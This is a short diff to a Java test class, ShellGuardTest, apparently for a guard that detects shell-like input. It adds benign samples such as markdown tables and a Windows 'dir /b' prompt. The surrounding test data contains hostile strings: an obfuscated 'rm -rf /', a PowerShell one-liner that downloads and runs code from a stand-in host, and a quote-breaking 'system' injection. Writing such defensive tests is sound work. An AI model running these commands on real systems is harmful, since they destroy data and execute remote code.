@@ -45,6 +45,9 @@ class ShellGuardTest {
                 "{\"id\": 7, \"name\": \"Ada\"}",
                 "[{\"host\":\"a\",\"date\": \"2026-01-02\"},{\"id\":2}]",
                 "('id', 'name', 'date')",
+                "| id | name | date |\n|---|---|---|\n| 1 | Ann | Monday |",
+                "(date) is optional.",
+                "C:\\> dir /b",
                 "OUT=build; rm -rf $OUT && mkdir -p $OUT",
                 "price=5\n$price and `echo` print what they are given",
             })
@@ -197,6 +200,8 @@ class ShellGuardTest {
                 "\"$x\"; /b?n/r? -rf /",
                 "& ('i'+'ex') (iwr http://x.example/a)",
                 "{\"id\": 7}",
+                "| id | date |\n|---|---|",
+                "(date) is optional, (id) is not",
                 "a', system('id')"));
         return out;
     }
